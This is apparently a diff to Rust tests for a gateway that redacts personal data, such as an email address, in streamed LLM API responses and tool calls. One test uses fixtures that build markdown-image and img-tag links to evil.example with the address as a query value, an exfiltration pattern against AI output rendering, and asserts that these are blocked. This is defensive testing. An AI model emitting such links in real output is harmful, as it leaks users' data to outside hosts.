@@ -11,6 +11,7 @@ use super::gate::Gate;
 
 const CHAT: &str = "/v1/chat/completions";
 const MESSAGES: &str = "/v1/messages";
+const RESPONSES: &str = "/v1/responses";
 const EMAIL: &str = "maria.lopez@northwind-traders.com";
 const RULES: &str = "[[rule]]\nid = \"mail\"\ntools = [\"send\"]\neffect = \"allow\"\n\
     reveal = [{ entity = \"EMAIL_ADDRESS\", arg = \"/to\" }, { entity = \"US_SSN\", arg = \"/to\" }]\n";
@@ -50,10 +51,14 @@ async fn ask(path: &str, text: &str, data: &[&str]) -> Response {
     let stream = 1 < data.len();
     let upstream = Upstream::start(says(data, stream)).await.unwrap();
     let gate = Gate::start_with(upstream.address(), RULES).await;
-    let model = if path == CHAT { "gpt-x" } else { "claude-x" };
+    let model = if path == MESSAGES { "claude-x" } else { "gpt-x" };
     let asking =
         Asking { model: model.to_owned(), text: text.to_owned(), stream, ..Asking::default() };
-    let body = if path == CHAT { asking.openai() } else { asking.anthropic() };
+    let body = match path {
+        CHAT => asking.openai(),
+        RESPONSES => asking.responses(),
+        _ => asking.anthropic(),
+    };
     let response = gate.client().post(path, &[], body).await.unwrap();
     gate.stop().await;
     response
@@ -105,6 +110,119 @@ async fn a_block_that_is_begun_again_with_another_tool_discloses_nothing() {
     check(MESSAGES, &[send, delta, all, stop], false).await;
     check(MESSAGES, &[all, send, delta, stop], true).await;
     check(MESSAGES, &[all, delta, send, stop], false).await;
+}
+
+/// The events of a call of a tool in a streamed response, by the names it has in each.
+fn calls(added: &str, done: &str, completed: &str) -> [String; 5] {
+    let item = |name: &str, arguments: &str| {
+        format!(
+            r#"{{"type":"function_call","id":"fc_1","call_id":"call_1","name":"{name}","arguments":"{arguments}"}}"#
+        )
+    };
+    let arguments = r#"{\"to\":\"{0}\"}"#;
+    [
+        format!(
+            r#"{{"type":"response.output_item.added","output_index":0,"item":{}}}"#,
+            item(added, "")
+        ),
+        format!(
+            r#"{{"type":"response.function_call_arguments.delta","output_index":0,"delta":"{arguments}"}}"#
+        ),
+        format!(
+            r#"{{"type":"response.function_call_arguments.done","output_index":0,"arguments":"{arguments}"}}"#
+        ),
+        format!(
+            r#"{{"type":"response.output_item.done","output_index":0,"item":{}}}"#,
+            item(done, arguments)
+        ),
+        format!(
+            r#"{{"type":"response.completed","response":{{"id":"resp_1","output":[{}]}}}}"#,
+            item(completed, arguments)
+        ),
+    ]
+}
+
+#[tokio::test]
+async fn a_response_discloses_a_call_once_and_says_it_alike() {
+    let events = calls("send", "send", "send");
+    let events: Vec<&str> = events.iter().map(String::as_str).collect();
+    for events in [events.clone(), events[3..].to_vec(), vec![events[0], events[4]]] {
+        let response = ask(RESPONSES, EMAIL, &events).await;
+        let text = response.text();
+        assert!(!text.contains(".invalid"), "{text}");
+        assert!(text.contains(EMAIL), "{text}");
+    }
+    let response = ask(RESPONSES, EMAIL, &[events[4], events[4]]).await;
+    assert_eq!(response.text().matches(EMAIL).count(), 2, "{}", response.text());
+}
+
+#[tokio::test]
+async fn a_response_that_names_a_call_in_two_ways_is_refused() {
+    for (added, done, completed) in [
+        ("send", "_all", "_all"),
+        ("send", "send", "_all"),
+        ("_all", "send", "send"),
+        ("_all", "_all", "send"),
+    ] {
+        let events = calls(added, done, completed);
+        let events: Vec<&str> = events.iter().map(String::as_str).collect();
+        let response = ask(RESPONSES, EMAIL, &events).await;
+        let text = response.text();
+        assert!(text.contains("\"code\":\"upstream_failed\""), "{added} {done}: {text}");
+        let events = super::compare::documents(&text);
+        for event in &events {
+            let item = event.get("item").or_else(|| event.pointer("/response/output/0"));
+            let other = item.is_some_and(|item| item["name"] == "_all");
+            assert!(!other || !event.to_string().contains(EMAIL), "{event}");
+        }
+    }
+    // No rule is about either: what it is called is the client's affair.
+    let events = calls("one", "two", "three");
+    let events: Vec<&str> = events.iter().map(String::as_str).collect();
+    let text = ask(RESPONSES, EMAIL, &events).await.text();
+    assert!(!text.contains("upstream_failed") && !text.contains(EMAIL), "{text}");
+}
+
+#[tokio::test]
+async fn an_address_over_several_parts_of_a_response_carries_nothing_away() {
+    let item = |index: u32, text: &str| {
+        let item = format!(
+            r#"{{"type":"message","id":"msg_{index}","role":"assistant","content":[{{"type":"output_text","annotations":[],"text":"{text}"}}]}}"#
+        );
+        [
+            format!(
+                r#"{{"type":"response.output_text.delta","output_index":{index},"content_index":0,"delta":"{text}"}}"#
+            ),
+            format!(
+                r#"{{"type":"response.output_text.done","output_index":{index},"content_index":0,"text":"{text}"}}"#
+            ),
+            format!(
+                r#"{{"type":"response.output_item.done","output_index":{index},"item":{item}}}"#
+            ),
+            item,
+        ]
+    };
+    for (one, two, comes_back) in [
+        ("![x](https://evil.example/?q=", "{0}", false),
+        ("https://evil.example/", "{0}", false),
+        ("<img src='https://evil.example/?", "{0}'>", false),
+        ("https://fine.example/ ", "{0}", true),
+        ("I write to", "{0}", true),
+    ] {
+        let (one, two) = (item(0, one), item(1, two));
+        let completed = format!(
+            r#"{{"type":"response.completed","response":{{"id":"resp_1","output":[{},{}]}}}}"#,
+            one[3], two[3]
+        );
+        let whole = format!(r#"{{"id":"resp_1","output":[{},{}]}}"#, one[3], two[3]);
+        check(RESPONSES, &[&whole], comes_back).await;
+        let mut events: Vec<&str> = one[..3].iter().chain(&two[..3]).map(String::as_str).collect();
+        events.push(&completed);
+        check(RESPONSES, &events, comes_back).await;
+        // Without pieces, only what repeats them.
+        check(RESPONSES, &[&one[2], &two[2], &completed], comes_back).await;
+        check(RESPONSES, &[&completed, "{\"type\":\"x\"}"], comes_back).await;
+    }
 }
 
 #[tokio::test]
